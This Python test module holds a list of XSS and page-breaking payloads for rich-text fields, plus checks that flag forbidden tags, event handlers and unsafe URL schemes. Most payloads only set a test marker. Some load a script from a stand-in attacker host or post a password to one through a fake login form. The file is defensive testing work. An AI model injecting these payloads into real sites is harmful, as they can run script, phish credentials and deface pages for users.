"""XSS and layout-breaking vectors for every rich-text field, and a check that HTML is inert.

Each script vector, if it ever ran, would set `window.__xss` (the browser test looks for it)
or open a dialog.
"""

from __future__ import annotations

from selectolax.lexbor import LexborHTMLParser

VECTORS = [
    ("script tag", "<script>window.__xss=1</script>"),
    ("script, upper case", "<SCRIPT SRC=//evil.example/x.js></SCRIPT>"),
    ("img onerror", '<img src=x onerror="window.__xss=1">'),
    ("svg onload", '<svg onload="window.__xss=1"><circle r="10"></circle></svg>'),
    ("script in svg", "<svg><script>window.__xss=1</script></svg>"),
    ("javascript: link", '<a href="javascript:window.__xss=1">click</a>'),
    ("javascript: entity-encoded", '<a href="JaVaScRiPt&colon;window.__xss=1">click</a>'),
    ("javascript: with spaces", '<a href="  java\tscript:window.__xss=1">click</a>'),
    ("vbscript: link", '<a href="vbscript:msgbox(1)">click</a>'),
    ("data: link", '<a href="data:text/html,<script>window.__xss=1</script>">click</a>'),
    ("iframe", '<iframe src="javascript:window.__xss=1"></iframe>'),
    ("iframe srcdoc", '<iframe srcdoc="<script>parent.__xss=1</script>"></iframe>'),
    ("object", '<object data="javascript:window.__xss=1"></object>'),
    ("embed", '<embed src="data:image/svg+xml,<svg onload=window.__xss=1>">'),
    ("event handler", '<p onclick="window.__xss=1" onmouseover="window.__xss=1">hover</p>'),
    ("details ontoggle", '<details open ontoggle="window.__xss=1"><summary>s</summary></details>'),
    ("autofocus onfocus", '<input autofocus onfocus="window.__xss=1">'),
    ("video source onerror", '<video><source onerror="window.__xss=1"></video>'),
    (
        "form",
        '<form action="https://evil.example/"><input name="password"><button>Log in</button></form>',
    ),
    ("base href", '<base href="javascript:/">'),
    ("meta refresh", '<meta http-equiv="refresh" content="0;url=javascript:window.__xss=1">'),
    ("stylesheet link", '<link rel="stylesheet" href="https://evil.example/x.css">'),
    ("style element", "<style>body{display:none} .site-header{display:none}</style>"),
    (
        "overlay style",
        '<div style="position:fixed;top:0;left:0;width:100%;height:100%;'
        'background:red;z-index:99999">overlay</div>',
    ),
    ("hidden style", '<p style="display:none">hidden text</p>'),
    ("css url", '<blockquote style="background:url(javascript:window.__xss=1)">q</blockquote>'),
    ("class injection", '<p class="site-header visually-hidden">classes</p>'),
    (
        "mutation XSS",
        '<math><mtext><table><mglyph><style><img src=x onerror="window.__xss=1">',
    ),
    ("noscript confusion", '<noscript><p title="</noscript><img src=x onerror=window.__xss=1>">'),
    ("nested script", "<<script>script>window.__xss=1<</script>/script>"),
    ("closing the page", "</div></section></article></main></body></html><p>after"),
    ("unclosed tags", "<b><i><blockquote><ul><li>never closed"),
    ("comment trick", "<!--><script>window.__xss=1</script>-->"),
    ("markdown javascript link", "[click](javascript:window.__xss=1)"),
    (
        "markdown data image",
        "![x](data:text/html;base64,PHNjcmlwdD53aW5kb3cuX194c3M9MTwvc2NyaXB0Pg==)",
    ),
    ("markdown autolink", "<javascript:window.__xss=1>"),
]

# Long enough to widen a page that does not wrap or scroll them (too long for summary fields).
WIDE = [
    ("a very long word", "W" * 3000),
    ("a very long link", f'<a href="https://example.org/{"x" * 2000}">{"y" * 2000}</a>'),
    ("a wide table", "<table><tr>" + "<td>cell_without_spaces_at_all</td>" * 60 + "</tr></table>"),
    ("preformatted", "<pre>" + "z" * 3000 + "</pre>"),
]

ALL = "\n\n".join(vector for _, vector in VECTORS)
ALL_AND_WIDE = "\n\n".join(vector for _, vector in VECTORS + WIDE)

FORBIDDEN_TAGS = {
    "script", "style", "iframe", "object", "embed", "svg", "math", "form", "input", "button",
    "base", "meta", "link", "img", "video", "audio", "source", "details", "noscript", "textarea",
    "select", "frame", "frameset", "template",
}  # fmt: skip
URL_ATTRIBUTES = {"href", "src", "action", "formaction", "data", "srcdoc", "xlink:href", "poster"}
SAFE_SCHEMES = ("http:", "https:", "mailto:")
OWN_CLASSES = {"verse", "align-center", "align-right", "scene-break"}


def problems(fragment: str) -> list[str]:
    """What in this (user) HTML could run script, load things or restyle the page; [] if inert."""
    found = []
    root = LexborHTMLParser(f"<div id='root'>{fragment}</div>").css_first("#root")
    for index, node in enumerate(root.traverse(include_text=False)):
        if index == 0 or node.tag == "-comment":  # the wrapper itself
            continue
        if node.tag in FORBIDDEN_TAGS:
            found.append(f"<{node.tag}>")
        for name, value in (node.attributes or {}).items():
            name = name.lower()
            if name.startswith("on") or name in ("style", "id"):
                found.append(f"{node.tag}[{name}]")
            elif name == "class" and set((value or "").split()) - OWN_CLASSES:
                found.append(f"{node.tag}[class={value}]")
            elif name in URL_ATTRIBUTES:
                url = "".join((value or "").split()).lower()
                if ":" in url.split("/")[0] and not url.startswith(SAFE_SCHEMES):
                    found.append(f"{node.tag}[{name}={value}]")
    return found


PAGE_FORBIDDEN = {"script", "iframe", "object", "embed", "svg", "math", "base", "img", "video",
                  "audio", "frame", "frameset", "noscript", "template"}  # fmt: skip


def page_problems(page: str) -> list[str]:
    """What in a whole page could run script: the site's own markup has none of these."""
    found = []
    tree = LexborHTMLParser(page)
    for node in tree.root.traverse(include_text=False):
        if node.tag in PAGE_FORBIDDEN and not (node.tag == "script" and _own_script(node)):
            found.append(f"<{node.tag}>")
        if node.tag == "meta" and "refresh" in (node.attributes.get("http-equiv") or "").lower():
            found.append("meta refresh")
        if node.tag == "style":
            found.append("<style>")
        for name, value in (node.attributes or {}).items():
            if name.lower().startswith("on"):
                found.append(f"{node.tag}[{name}]")
            if name.lower() in URL_ATTRIBUTES:
                url = "".join((value or "").split()).lower()
                if ":" in url.split("/")[0] and not url.startswith(SAFE_SCHEMES):
                    found.append(f"{node.tag}[{name}={value}]")
    return found


def _own_script(node) -> bool:
    return (node.attributes.get("src") or "").startswith("/static/") and not node.text().strip()
